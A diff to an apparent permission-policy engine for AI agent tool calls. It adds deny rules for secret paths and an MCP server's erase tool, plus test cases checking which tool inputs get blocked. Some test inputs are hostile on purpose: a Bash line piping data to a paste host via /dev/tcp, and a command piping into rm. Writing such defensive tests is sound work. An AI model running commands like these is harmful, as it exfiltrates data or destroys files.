@@ -21,9 +21,14 @@ operational:
   rules:
     - { id: no-rm, effect: deny, commands: [rm], reason: Nothing is removed here. }
     - { id: no-env, effect: deny, actions: [file.read, file.write], paths: ['**/.env'] }
+    - { id: no-secrets, effect: deny, actions: [file.read], paths: ['/secrets/**'] }
     - { id: ask-publish, effect: prompt, commands: [publish] }
 network: { default: allow, rules: [{ id: no-paste, effect: deny, destinations: ['*.paste.example'] }] }
-tools: { default: allow, rules: [{ id: no-drop, effect: deny, servers: [db], tools: [drop_table] }] }
+tools:
+  default: allow
+  rules:
+    - { id: no-drop, effect: deny, servers: [db], tools: [drop_table] }
+    - { id: no-erase, effect: deny, servers: [my__srv], tools: [erase] }
 supply_chain: { default: allow, rules: [{ id: no-left-pad, effect: deny, packages: [left-pad] }] }
 dlp:
   default: allow
@@ -84,6 +89,18 @@ describe('before a tool is used', () => {
     ['WebFetch', { url: 'https://docs.example/' }, undefined],
     ['mcp__db__drop_table', { table: 'users' }, 'no-drop'],
     ['mcp__notes__drop_table', { table: 'users' }, undefined],
+    // Server `my`, or server `my__srv`: nobody can tell.
+    ['mcp__my__srv__erase', {}, 'no-erase'],
+    ['mcp__my__erase', {}, undefined],
+    ['Monitor', { command: 'tail -f x | xargs rm', description: 'x' }, 'no-rm'],
+    ['Monitor', { command: 'tail -f x' }, undefined],
+    ['PowerShell', { command: 'ls' }, 'builtin/unknown-action'],
+    ['Bash', { command: 'echo x > /dev/tcp/a.paste.example/80' }, 'no-paste'],
+    ['Bash', { command: '# nothing' }, undefined],
+    ['Bash', { command: 'X=1' }, undefined],
+    ['Glob', { pattern: '/srv/.env' }, 'no-env'],
+    ['Glob', { pattern: '../secrets/keys/*' }, 'no-secrets'],
+    ['Glob', { pattern: '**/*.ts' }, undefined],
     ['TodoWrite', { todos: [] }, undefined],
   ])('%s %j: %s', async (tool, input, rule) => {
     expect(await before(tool, input)).toEqual(rule === undefined ? undefined : denial(rule));
